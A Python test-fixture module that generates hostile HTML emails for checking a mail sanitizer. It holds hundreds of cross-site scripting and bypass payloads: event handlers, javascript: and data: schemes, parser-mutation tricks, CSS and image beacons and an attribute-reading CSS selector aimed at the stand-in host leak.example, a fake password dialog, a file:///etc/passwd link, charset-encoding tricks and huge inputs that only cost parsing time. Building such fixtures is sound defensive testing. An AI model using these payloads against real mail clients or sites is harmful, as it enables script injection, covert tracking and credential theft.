"""Hostile HTML of mails: (class, name, HTML). `window.__x` is set and a dialog opens where any of it runs; whatever is
fetched would be asked of leak.example. All of it in words of our own.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

Page = tuple[str, str, str]
JS = "window.__x=1;try{top.__x=1}catch(e){};alert(1)"
LEAK = "https://leak.example"
ENCODED = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'><script>{JS}</script></svg>"
SVG64 = base64.b64encode(SVG.encode()).decode()


def handlers() -> Iterator[Page]:
    """Code in attributes that wait for an event."""
    shapes = {
        "img-error": "<img src=nowhere:x onerror='{}'>",
        "img-error-no-quotes": "<img src=x onerror={}>",
        "img-error-slashes": "<img/src=x/onerror='{}'//>",
        "img-error-newline": "<img src=x\nonerror\n=\n'{}'\n>",
        "img-error-tab-name": "<img src=x on\terror='{}' onerror='{}'>",
        "img-error-form-feed": "<img src=x\x0conerror='{}'>",
        "img-error-null": "<img src=x on\x00error='{}'>",
        "img-error-upper": "<IMG SRC=x ONERROR='{}'>",
        "img-error-backquote": "<img src=`x` onerror=`{}`>",
        "img-error-twice": "<img src=x onerror='' onerror='{}'>",
        "img-load-data": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload='{}'>",
        "body-load": "<body onload='{}'>letter</body>",
        "body-pageshow": "<body onpageshow='{}' onhashchange='{}'>letter</body>",
        "body-twice": "<p>one</p><body onload='{}'>two",
        "html-click": "<html onmouseover='{}'><p>letter</p></html>",
        "autofocus": "<input autofocus onfocus='{}'>",
        "autofocus-any": "<div tabindex=0 autofocus onfocus='{}'>letter</div>",
        "contenteditable": "<b contenteditable onblur='{}' onfocus='{}' autofocus>letter</b>",
        "details-toggle": "<details open ontoggle='{}'><summary>more</summary>letter</details>",
        "marquee-start": "<marquee onstart='{}' onfinish='{}' loop=1 width=0>letter</marquee>",
        "video-source": "<video><source onerror='{}'></video>",
        "audio-error": "<audio src=x onerror='{}'></audio>",
        "select-focus": "<select autofocus onfocus='{}'><option>1</select>",
        "textarea-focus": "<textarea autofocus onfocus='{}'></textarea>",
        "animation": "<style>@keyframes k{{}}</style><p style='animation-name:k' onanimationstart='{}'>letter</p>",
        "transition": "<p style='transition:all 1s' ontransitionend='{}' id=t>letter</p>",
        "scroll": "<div onscroll='{}' style='overflow:scroll;height:10px'>a<br>b<br>c</div>",
        "before-toggle": "<button popovertarget=q>a</button><p popover id=q onbeforetoggle='{}'>b</p>",
        "content-visible": "<p oncontentvisibilityautostatechange='{}' style='content-visibility:auto'>letter</p>",
        "link-click": "<a href='https://ok.example/' onclick='{}' onauxclick='{}'>letter</a>",
        "meter": "<meter value=2 onclick='{}' onmouseover='{}'>letter</meter>",
        "unknown-element": "<letter onclick='{}' tabindex=1 onfocus='{}' autofocus>letter</letter>",
        "namespaced": "<x:p xmlns:x='http://www.w3.org/1999/xhtml' onclick='{}'>letter</x:p>",
        "end-tag": "<p>one</p onclick='{}'><br/onclick='{}'>",
        "unclosed-quote": "<img alt=\"\" src=x title='><img src=x onerror={}>'>",
        "attribute-in-title": "<p title=\"x' onmouseover='{}' y='\">letter</p>",
        "alt-breaks-out": "<img src=x alt='\"><img src=x onerror={}>'>",
    }
    for name, shape in shapes.items():
        yield "handlers", name, shape.replace("{{", "{").replace("}}", "}").replace("{}", JS)


def schemes() -> Iterator[Page]:
    """Addresses that run instead of leading somewhere."""
    links = {
        "plain": f"javascript:{JS}",
        "mixed-case": f"JaVaScRiPt:{JS}",
        "spaces-first": f"  \n javascript:{JS}",
        "control-first": f"\x01\x1fjavascript:{JS}",
        "tab-inside": f"java\tscript:{JS}",
        "newline-inside": f"java\nscri\r\npt:{JS}",
        "entity-tab": f"jav&#x09;ascript:{JS}",
        "entity-newline": f"jav&NewLine;ascript&colon;{JS}",
        "entities-decimal": "".join(f"&#{ord(c)};" for c in f"javascript:{JS}"),
        "entities-padded": "".join(f"&#{ord(c):07d}" for c in "javascript:") + JS,
        "entities-hex": "".join(f"&#x{ord(c):x};" for c in f"javascript:{JS}"),
        "entity-null": f"java&#0;script:{JS}",
        "percent": f"javascript%3A{JS}",
        "comment-newline": f"javascript://ok.example/%0a{JS}",
        "view-source": f"view-source:javascript:{JS}",
        "vbscript": "vbscript:msgbox(1)",
        "livescript": f"livescript:{JS}",
        "data-html": f"data:text/html,<script>{JS}</script>",
        "data-html-base64": f"data:text/html;base64,{ENCODED}",
        "data-svg": f"data:image/svg+xml;base64,{SVG64}",
        "data-xhtml": f"data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>{JS}</script></x>",
        "blob": "blob:https://leak.example/0",
        "filesystem": "filesystem:https://leak.example/temporary/x",
        "file": "file:///etc/passwd",
        "feed": f"feed:javascript:{JS}",
        "ms-handler": "ms-msdt:/id PCWDiagnostic",
        "soft-hyphen": f"java\u00adscript:{JS}",
        "full-width": f"ｊａｖａｓｃｒｉｐｔ:{JS}",
        "relative": "/logout",
        "relative-dots": "../queue/1/dismiss",
        "protocol-relative": "//leak.example/",
        "backslashes": "\\\\leak.example\\x",
        "https-backslash": "https:\\\\leak.example\\@ok.example/",
        "https-one-slash": "https:/leak.example/",
        "user-in-front": "https://ok.example@leak.example/",
        "port-trick": "https://ok.example:99999/",
        "empty": "",
        "mailto-headers": "mailto:a@ok.example?bcc=b@leak.example&body=x\r\nX: y",
    }
    for name, link in links.items():
        quoted = link.replace("'", "&#39;") if "'" in link else link
        yield "schemes", f"a-{name}", f"<p>letter <a href='{quoted}'>here</a></p>"
    for name in ("plain", "tab-inside", "entities-decimal", "data-svg", "data-html", "vbscript"):
        link = links[name].replace("'", "&#39;")
        yield "schemes", f"img-{name}", f"<img src='{link}' alt=letter>"
        yield "schemes", f"iframe-{name}", f"<iframe src='{link}'></iframe>"
        yield "schemes", f"form-{name}", f"<form action='{link}'><button formaction='{link}'>go</button></form>"
        yield "schemes", f"object-{name}", f"<object data='{link}'></object><embed src='{link}'>"
    yield (
        "schemes",
        "area",
        f"<map name=m><area shape=rect coords=0,0,99,99 href='javascript:{JS}'></map><img usemap=#m>",
    )
    yield "schemes", "base-script", f"<base href='javascript:{JS}//'><a href='x'>here</a>"
    yield "schemes", "button-form", f"<button form=f formaction='javascript:{JS}'>go</button><form id=f></form>"
    yield "schemes", "a-xlink", f"<svg><a xlink:href='javascript:{JS}'><text y=20>here</text></a></svg>"
    yield "schemes", "math-href", f"<math href='javascript:{JS}'>here</math>"
    yield (
        "schemes",
        "svg-animate-href",
        f"<svg><a><animate attributeName=href values='javascript:{JS}'/><text>x</text></a></svg>",
    )


def mutation() -> Iterator[Page]:
    """What changes its meaning when it is written out and read again."""
    image = f"<img src=x onerror='{JS}'>"
    shapes = {
        "svg-script": f"<svg><script>{JS}</script></svg>",
        "svg-load": f"<svg onload='{JS}'><g onload='{JS}'></g></svg>",
        "svg-foreign": f"<svg><foreignObject>{image}<iframe srcdoc='<script>{JS}</script>'></iframe></foreignObject></svg>",
        "svg-style": f"<svg></p><style><a id='</style>{image}'>",
        "svg-title": f"<svg><title><style><a title='</style>{image}'></title></svg>",
        "svg-desc": f"<svg><desc><noscript><a id='</noscript>{image}'></desc></svg>",
        "svg-use": f"<svg><use href='data:image/svg+xml;base64,{SVG64}#x'/></svg>",
        "svg-image": f"<svg><image href='{LEAK}/i.png' onerror='{JS}'/></svg>",
        "svg-set": f"<svg><set attributeName=onload to='{JS}' onbegin='{JS}'/></svg>",
        "svg-cdata": f"<svg><![CDATA[</svg>{image}]]></svg>",
        "svg-handler": f"<svg><handler type='application/ecmascript'>{JS}</handler></svg>",
        "math-mglyph": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={JS}&gt;'>",
        "math-style": f"<math><mi><style><a id='</style>{image}'></math>",
        "math-annotation": f"<math><annotation-xml encoding='text/html'><style>{image}</style></annotation-xml></math>",
        "math-form": f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        "math-action": f"<math><maction actiontype='statusline' xlink:href='javascript:{JS}'>x</maction></math>",
        "noscript": f"<noscript><p title='</noscript>{image}'></noscript>",
        "noscript-in-style": f"<noscript><style></noscript>{image}</style>",
        "template": f"<template><script>{JS}</script>{image}</template>",
        "template-nested": f"<template><template></template>{image}</template><div><template shadowrootmode=open>{image}</template></div>",
        "style-end": f"<style><img title='</style>{image}'></style>",
        "style-comment": f"<style><!--</style>{image}--></style>",
        "title-end": f"<title><a title='</title>{image}'></title>",
        "textarea-end": f"<textarea><a title='</textarea>{image}'></textarea>",
        "textarea-noscript": f"<noscript><textarea></noscript>{image}</textarea>",
        "xmp": f"<xmp><p title='</xmp>{image}'></xmp>",
        "noembed": f"<noembed><p title='</noembed>{image}'></noembed>",
        "noframes": f"<noframes><p title='</noframes>{image}'></noframes>",
        "iframe-text": f"<iframe><p title='</iframe>{image}'></iframe>",
        "plaintext": f"<plaintext></plaintext>{image}",
        "listing": f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
        "pre-newline": f"<pre>\n\n&lt;script&gt;{JS}&lt;/script&gt;</pre>",
        "select-inside": f"<select><template><style><!--</style></template>{image}</select>",
        "option": f"<select><option><style></option></select>{image}</style>",
        "table-foster": f"<table><script>{JS}</script><tr>{image}<td><table>{image}",
        "table-caption": f"<table><caption><svg></caption><style><img title='</style>{image}'>",
        "nested-forms": f"<form><div></form><form><input name=action><img src=x onerror='{JS}'>",
        "nested-links": f"<a href=https://ok.example/><table><a href='javascript:{JS}'>x</a></table></a>",
        "double-escape": f"&lt;script&gt;{JS}&lt;/script&gt;&amp;lt;img src=x onerror={JS}&amp;gt;",
        "attribute-entity": f"<p title='&quot;&gt;&lt;script&gt;{JS}&lt;/script&gt;'>letter</p>",
        "comment-bang": f"<!--!> {image} --!> <!--> {image} -->",
        "comment-dash": f"<!---><script>{JS}</script>-->",
        "comment-conditional": f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
        "comment-revealed": f"<![if !mso]><script>{JS}</script><![endif]>",
        "processing": f"<?xml version='1.0'?><?xml-stylesheet href='javascript:{JS}'?><?php {image} ?>",
        "doctype-entity": f"<!DOCTYPE x [<!ENTITY e '{image}'>]><p>&e;</p>",
        "cdata": f"<![CDATA[<script>{JS}</script>]]>",
        "half-tag": f"<script{image}",
        "half-script": f"<scr<script>ipt>{JS}</scr</script>ipt>",
        "unclosed-script": f"<script>{JS}",
        "script-slash": f"<script/x>{JS}</script\t\n bar>",
        "script-in-attribute": f"<div data-x='<script>{JS}</script>'>letter</div>",
        "import-map": '<script type="importmap">{"imports":{"a":"https://leak.example/a.js"}}</script>',
        "many-levels": "<div>" * 60 + f"<svg><math><table>{image}" + "</div>" * 60,
        "dom-clobber": "<a id=top></a><form name=document><input name=cookie></form><img name=currentScript>",
        "custom-element": f"<x-a is=script>{JS}</x-a><script is=x-b>{JS}</script>",
        "slot": f"<slot name=a>{image}</slot>",
        "body-end": f"</body></html><script>{JS}</script>{image}",
        "head-end": f"</style></title></head><body onload='{JS}'>",
        "null-tag": f"<scr\x00ipt>{JS}</scr\x00ipt><\x00script>{JS}</script>",
        "odd-brackets": f"＜script＞{JS}＜/script＞<%73cript>{JS}</script>",
        "overlong": f"\u0c3cscript>{JS}</script>",
        "utf7-looking": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "lone-surrogate": f"\ud800<script>{JS}</script>\udc00",
        "bidi-tag": f"<\u202escript>{JS}</script>",
    }
    for name, shape in shapes.items():
        yield "mutation", name, shape


def tracking() -> Iterator[Page]:
    """What would tell somebody that the mail was opened."""
    shapes = {
        "img": f"<img src='{LEAK}/t.gif' width=1 height=1>",
        "img-protocol-relative": "<img src='//leak.example/t.gif'>",
        "img-upper": "<IMG SRC='HTTPS://LEAK.EXAMPLE/t.gif'>",
        "img-backslash": "<img src='https:\\\\leak.example\\t.gif'>",
        "img-tabs": "<img src='ht\ttps://leak.exam\nple/t.gif'>",
        "img-relative": "<img src='/mails/1/source'>",
        "img-srcset": f"<img srcset='{LEAK}/a.png 1x, {LEAK}/b.png 2x'>",
        "img-lowsrc": f"<img lowsrc='{LEAK}/l.png' dynsrc='{LEAK}/d.avi' longdesc='{LEAK}/d'>",
        "img-lazy": f"<img loading=eager fetchpriority=high src='{LEAK}/t.png' crossorigin>",
        "img-attributionsrc": f"<img attributionsrc='{LEAK}/a' src=cid:x>",
        "picture": f"<picture><source srcset='{LEAK}/a.webp'><img src='{LEAK}/b.png'></picture>",
        "image-element": f"<image src='{LEAK}/t.png'>",
        "input-image": f"<input type=image src='{LEAK}/t.png'>",
        "body-background": f"<body background='{LEAK}/b.png'>letter</body>",
        "td-background": f"<table background='{LEAK}/b.png'><tr><td background='{LEAK}/c.png'>letter</table>",
        "link-style": f"<link rel=stylesheet href='{LEAK}/s.css'><link rel='alternate stylesheet' href='{LEAK}/t.css'>",
        "link-others": "".join(f"<link rel={rel} href='{LEAK}/{rel}'>" for rel in
                               ("preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "icon", "manifest", "prerender")),
        "meta-refresh": f"<meta http-equiv=refresh content='0;url={LEAK}/r'>",
        "meta-refresh-script": f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
        "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><meta http-equiv=set-cookie content=a=b>",
        "meta-referrer": "<meta name=referrer content=unsafe-url>",
        "base": f"<base href='{LEAK}/'><img src=t.gif><a href=x>here</a>",
        "base-target": "<base target=_top><a href='https://ok.example/'>here</a>",
        "iframe": f"<iframe src='{LEAK}/f' srcdoc='<img src={LEAK}/g>'></iframe>",
        "frameset": f"<frameset cols=50%,50%><frame src='{LEAK}/f'><frame src='javascript:{JS}'></frameset>",
        "object": f"<object data='{LEAK}/o.swf' codebase='{LEAK}/'><param name=movie value='{LEAK}/m.swf'></object>",
        "embed": f"<embed src='{LEAK}/e.swf' allowscriptaccess=always>",
        "applet": f"<applet code=A archive='{LEAK}/a.jar'></applet>",
        "video-poster": f"<video poster='{LEAK}/p.png' src='{LEAK}/v.mp4' autoplay></video>",
        "audio": f"<audio src='{LEAK}/a.mp3' autoplay><track src='{LEAK}/t.vtt'></audio>",
        "bgsound": f"<bgsound src='{LEAK}/a.wav'>",
        "script-src": f"<script src='{LEAK}/s.js' async></script>",
        "form": f"<form action='{LEAK}/f' method=post><input name=a value=b><input type=submit></form>",
        "ping": f"<a href='https://ok.example/' ping='{LEAK}/p'>here</a>",
        "portal": f"<portal src='{LEAK}/p'></portal><fencedframe src='{LEAK}/q'></fencedframe>",
        "css-url": f"<p style='background:url({LEAK}/c.png)'>letter</p>",
        "css-url-quoted": f"<p style='background-image:url(&quot;{LEAK}/c.png&quot;)'>letter</p>",
        "css-url-relative": "<p style='background:url(//leak.example/c.png)'>letter</p>",
        "css-url-escaped": "<p style='background:\\75rl(https://leak.example/c.png)'>letter</p>",
        "css-url-commented": f"<p style='background:u/**/rl({LEAK}/c.png);background:url(/**/{LEAK}/d.png)'>letter</p>",
        "css-image-set": f"<p style='background:image-set(\"{LEAK}/c.png\" 1x)'>letter</p>",
        "css-webkit-image-set": f"<p style='background:-webkit-image-set(url({LEAK}/c.png) 1x)'>letter</p>",
        "css-cross-fade": f"<p style='background:cross-fade(url({LEAK}/c.png), red)'>letter</p>",
        "css-list": f"<ul style='list-style:url({LEAK}/l.png)'><li style='list-style-image:url({LEAK}/m.png)'>a</ul>",
        "css-cursor": f"<p style='cursor:url({LEAK}/c.cur),auto'>letter</p>",
        "css-content": f"<p style='content:url({LEAK}/c.png)'>letter</p>",
        "css-border-image": f"<p style='border-image:url({LEAK}/b.png) 30'>letter</p>",
        "css-mask": f"<p style='mask:url({LEAK}/m.svg);-webkit-mask-image:url({LEAK}/n.svg);filter:url({LEAK}/f.svg#a)'>letter</p>",
        "css-shape": f"<p style='shape-outside:url({LEAK}/s.png);clip-path:url({LEAK}/s.svg#a);offset-path:url({LEAK}/o.svg#a)'>x</p>",
        "css-variable": f"<p style='--a:url({LEAK}/v.png);background:var(--a)'>letter</p>",
        "css-binding": f"<p style='-moz-binding:url({LEAK}/x.xml#a);behavior:url({LEAK}/x.htc)'>letter</p>",
        "css-expression": f"<p style='width:expression({JS});width:exp/**/ression({JS})'>letter</p>",
        "css-expression-escaped": f"<p style='width:\\65 xpression({JS})'>letter</p>",
        "css-import": f"<style>@import url({LEAK}/i.css);@import '{LEAK}/j.css';</style>",
        "css-font": f"<style>@font-face{{font-family:a;src:url({LEAK}/f.woff)}}p{{font-family:a}}</style><p>letter</p>",
        "css-namespace": f"<style>@namespace url({LEAK}/n);@document url({LEAK}){{}}</style>",
        "css-style-url": f"<style>p{{background:url({LEAK}/s.png)}}</style><p>letter</p>",
        "css-attribute-read": f"<style>input[value^=a]{{background:url({LEAK}/a)}}</style><input value=abc>",
        "css-break-out": f"<p style='color:red\"><img src={LEAK}/q.png>'>letter</p>",
        "css-end-style": f"<p style='font-family:\"</style><img src={LEAK}/q.png>\"'>letter</p>",
        "css-position": "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff'>sign in again</p>",
        "css-negative-margin": "<p style='margin:-9999px;text-indent:-9999px'>letter</p>",
        "dialog": "<dialog open style='inset:0'>sign in again<form method=dialog><input type=password></form></dialog>",
        "link-list-unsubscribe": f"<link rel=pingback href='{LEAK}/p'><a href='{LEAK}/u' rel='opener' target='_top'>here</a>",
        "target-name": f"<a href='{LEAK}/u' target='maild' download='x.exe'>here</a>",
        "mhtml": f"<img src='mhtml:{LEAK}/x!y'>",
        "xml-data-island": f"<xml src='{LEAK}/x.xml' id=x></xml><div datasrc=#x datafld=a dataformatas=html></div>",
        "html-manifest": f"<html manifest='{LEAK}/m'><p>letter</p></html>",
        "vml": f"<v:image xmlns:v='urn:schemas-microsoft-com:vml' src='{LEAK}/v.png'/><v:fill src='{LEAK}/w.png'/>",
        "conditional-vml": f"<!--[if mso]><v:rect><v:fill src='{LEAK}/m.png'/></v:rect><![endif]-->",
        "amp": f"<amp-img src='{LEAK}/a.png' width=1 height=1></amp-img>",
        "speculation": f'<script type=speculationrules>{{"prerender":[{{"urls":["{LEAK}/s"]}}]}}</script>',
        "cid-missing": "<img src='cid:nobody@patron.example' alt=letter>",
        "cid-odd": "<img src='cid:../../etc/passwd'><img src='cid:'><img src='cid:%00'>",
        "data-svg-img": f"<img src='data:image/svg+xml;base64,{SVG64}'>",
        "data-svg-text": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://leak.example/i'/></svg>\">",
        "data-lying": f"<img src='data:image/png;base64,{ENCODED}'>",
    }  # fmt: skip
    for name, shape in shapes.items():
        yield "tracking", name, shape


def pages() -> Iterator[Page]:
    """All of them."""
    yield from handlers()
    yield from schemes()
    yield from mutation()
    yield from tracking()


def huge() -> Iterator[Page]:
    """What only costs time."""
    yield "huge", "nested", "<div>" * 200_000 + "letter"
    yield "huge", "nested-formats", "<b><i><u><p>" * 20_000 + "letter"
    yield "huge", "nested-tables", "<table><tr><td>" * 30_000
    yield "huge", "nested-svg", "<svg><g>" * 50_000
    yield "huge", "nested-links", "<a href=https://ok.example/>" * 50_000
    yield "huge", "attributes", "<p " + " ".join(f"a{i}=1" for i in range(100_000)) + ">letter"
    yield "huge", "one-style", "<p style='" + "color:red;" * 500_000 + "'>letter"
    yield "huge", "style-comments", "<p style='" + "/*" * 500_000 + "'>letter"
    yield "huge", "one-link", "<a href='https://ok.example/" + "x" * 2_000_000 + "'>letter</a>"
    yield "huge", "ten-megabytes", "<p>letter</p>" * 800_000
    yield "huge", "images", f"<img src='{LEAK}/a.png'>" * 30_000
    yield "huge", "entities", "&amp;" * 1_000_000
    yield "huge", "comments", "<!--" * 300_000
    yield "huge", "half-tags", "<p" * 500_000
    yield "huge", "brackets", "<" * 2_000_000
    yield "huge", "quotes", '<p a="' * 200_000
    yield "huge", "data-uris", "<img src='data:image/png;base64," * 100_000
    yield "huge", "one-data-uri", "<img src='data:image/png;base64," + "A" * 9_000_000 + "'>"


def mails() -> Iterator[tuple[str, bytes]]:
    """Tricks of charsets and encodings: (name, a whole mail)."""
    script = f"<p>letter</p><script>{JS}</script><img src=x onerror='{JS}'><img src='{LEAK}/t.png'>"

    def mail(kind: str, body: bytes, *more: str) -> bytes:
        lines = ["From: patron@patron.example", "Subject: hello", "MIME-Version: 1.0", f"Content-Type: {kind}", *more]
        return "\r\n".join(lines).encode() + b"\r\n\r\n" + body

    yield "utf-7", mail("text/html; charset=utf-7", script.encode("utf-7"))
    yield "utf-7-called-ascii", mail("text/html; charset=us-ascii", script.encode("utf-7"))
    yield "utf-16", mail("text/html; charset=utf-16", script.encode("utf-16"))
    yield "utf-16-be-no-mark", mail("text/html; charset=utf-16be", script.encode("utf-16-be"))
    yield "utf-16-called-utf-8", mail("text/html; charset=utf-8", script.encode("utf-16"))
    yield "utf-32", mail("text/html; charset=utf-32", script.encode("utf-32"))
    yield "ebcdic", mail("text/html; charset=cp037", script.encode("cp037"))
    yield "iso-2022-jp", mail("text/html; charset=iso-2022-jp", b"\x1b$B<script>\x1b(B" + script.encode())
    yield "hz", mail("text/html; charset=hz-gb-2312", b"~{" + script.encode() + b"~}" + script.encode())
    yield (
        "gb18030",
        mail("text/html; charset=gb18030", "馆员".encode("gb18030") + b"\x81'><img src=x onerror='alert(1)'>"),
    )
    yield (
        "meta-charset",
        mail("text/html; charset=utf-8", b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    )
    yield (
        "overlong-utf-8",
        mail("text/html; charset=utf-8", b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe<p>letter</p>"),
    )
    yield "null-bytes", mail("text/html; charset=utf-8", script.encode().replace(b"<", b"<\x00"))
    yield (
        "quoted-printable",
        mail(
            "text/html",
            script.replace("=", "=3D").replace("<", "=3C").encode(),
            "Content-Transfer-Encoding: quoted-printable",
        ),
    )
    yield "base64", mail("text/html", base64.encodebytes(script.encode()), "Content-Transfer-Encoding: base64")
    yield (
        "xhtml",
        mail(
            "application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{script}</body></html>".encode()
        ),
    )
    yield "no-charset", mail("text/html; charset=nonsense", script.encode())
    yield (
        "alternative",
        mail(
            "multipart/alternative; boundary=b",
            b"--b\r\nContent-Type: text/plain\r\n\r\nletter\r\n--b\r\nContent-Type: text/html\r\n\r\n"
            + script.encode()
            + b"\r\n--b--\r\n",
        ),
    )
    yield "forwarded", mail("message/rfc822", b"Subject: inner\r\nContent-Type: text/html\r\n\r\n" + script.encode())
